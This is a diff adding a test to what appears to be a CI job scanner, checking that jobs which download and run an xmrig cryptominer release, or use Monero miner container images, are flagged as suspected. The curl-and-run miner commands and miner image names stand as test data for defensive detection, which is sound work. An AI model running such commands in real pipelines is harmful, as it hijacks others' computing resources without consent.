@@ -451,3 +451,15 @@ test('many commands of what the rules compare with one another take a bounded ti
     assert.ok(elapsed < 4_000, `${elapsed} ms for ${line}`);
   }
 });
+
+test('what weighs enough to be held: a published image, and a fetched release that is run', () => {
+  const release = 'https://github.com/xmrig/xmrig/releases/download/v6/xmrig-6-linux-x64.tar.gz';
+  const fetched = scanJob({
+    scripts: [`curl -sL ${release} | tar xz`, './xmrig-6/xmrig -c a.json'],
+  });
+  assert.deepEqual([fetched.verdict, fetched.executedBits], ['suspected', 12]);
+  for (const image of ['metal3d/xmrig', 'registry.example.com/hub/kannix/monero-miner:1']) {
+    const report = scanJob({ scripts: ['true'], images: [image] });
+    assert.deepEqual([report.verdict, report.executedBits], ['suspected', 12], image);
+  }
+});
